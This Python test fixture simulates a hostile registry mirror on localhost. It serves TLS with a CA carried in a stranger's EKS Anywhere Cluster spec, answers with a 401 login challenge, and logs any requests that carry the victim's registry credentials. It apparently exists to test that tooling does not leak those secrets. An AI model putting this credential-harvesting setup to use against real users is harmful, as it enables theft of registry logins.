"""The attacker of docs/security.md: a registry mirror a stranger's spec points at.

``Attacker`` serves HTTPS on 127.0.0.1 with a certificate the spec's own ``caCertContent``
vouches for, answers every request with ``401`` and a Basic challenge (as a registry asking
for a login does; or the ``challenge`` given, e.g. a Bearer realm on another host), and
records what it receives. ``credentials`` counts the requests that carried the victim's
REGISTRY_USERNAME/REGISTRY_PASSWORD in any form (a Basic header, the password itself,
URL-encoded or base64); each request is also appended to ``log`` as one JSON line, for a
test in another process (the VS Code end-to-end test) to read.
"""

from __future__ import annotations

import base64
import json
import threading
import urllib.parse
from dataclasses import dataclass
from http.server import ThreadingHTTPServer
from pathlib import Path

from tlsserve import RegistryHandler, TlsServing, tls_context

from support import Cert

USER = "victim-puller"
PASSWORD = "Victim-S3cret-for-the-attacker"
CREDS = {"REGISTRY_USERNAME": USER, "REGISTRY_PASSWORD": PASSWORD}


def credential_forms(user: str = USER, password: str = PASSWORD) -> tuple[str, ...]:
    basic = base64.b64encode(f"{user}:{password}".encode()).decode()
    return (password, urllib.parse.quote(password, safe=""), basic, basic.rstrip("="))


@dataclass(frozen=True)
class Received:
    """One request the attacker received."""

    path: str
    authorization: str
    carries_credentials: bool


class Attacker(TlsServing):
    """A registry that wants a login, run by whoever wrote the spec."""

    def __init__(
        self,
        cert: Cert,
        workdir: Path,
        log: Path | None = None,
        challenge: str = 'Basic realm="attacker"',
    ) -> None:
        workdir.mkdir(parents=True, exist_ok=True)
        (workdir / "cert.pem").write_text(cert.pem)
        (workdir / "key.pem").write_text(cert.key_pem)
        self.received: list[Received] = []
        self.log = log
        self._lock = threading.Lock()
        attacker = self

        class Handler(RegistryHandler):
            def do_GET(self) -> None:
                attacker.record(self.path, dict(self.headers.items()))
                self.send_json(
                    401,
                    {"errors": [{"code": "UNAUTHORIZED"}]},
                    WWW_Authenticate=challenge,
                )

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        server.daemon_threads = True
        context = tls_context(workdir / "cert.pem", workdir / "key.pem")
        super().__init__(server, context)

    def record(self, path: str, headers: dict[str, str]) -> None:
        seen = " ".join([path, *headers.values()])
        carries = any(form in seen for form in credential_forms())
        entry = Received(path, headers.get("Authorization", ""), carries)
        with self._lock:
            self.received.append(entry)
            if self.log is not None:
                with self.log.open("a") as out:
                    out.write(json.dumps({"path": path, "credentials": carries}) + "\n")

    @property
    def credentials(self) -> int:
        """How many requests carried the victim's credentials."""
        with self._lock:
            return sum(1 for r in self.received if r.carries_credentials)

    @property
    def requests(self) -> int:
        with self._lock:
            return len(self.received)


def attacker_spec(port: int, ca_pem: str, name: str = "attacker") -> str:
    """A Cluster spec from a stranger: the mirror is the attacker's, with its own CA."""
    ca = "\n".join("      " + line for line in ca_pem.strip().splitlines())
    return (
        "apiVersion: anywhere.eks.amazonaws.com/v1alpha1\n"
        "kind: Cluster\n"
        f"metadata:\n  name: {name}\n"
        "spec:\n"
        f"  datacenterRef:\n    kind: DockerDatacenterConfig\n    name: {name}\n"
        "  registryMirrorConfiguration:\n"
        "    endpoint: 127.0.0.1\n"
        f'    port: "{port}"\n'
        "    authenticate: true\n"
        f"    caCertContent: |\n{ca}\n"
    )
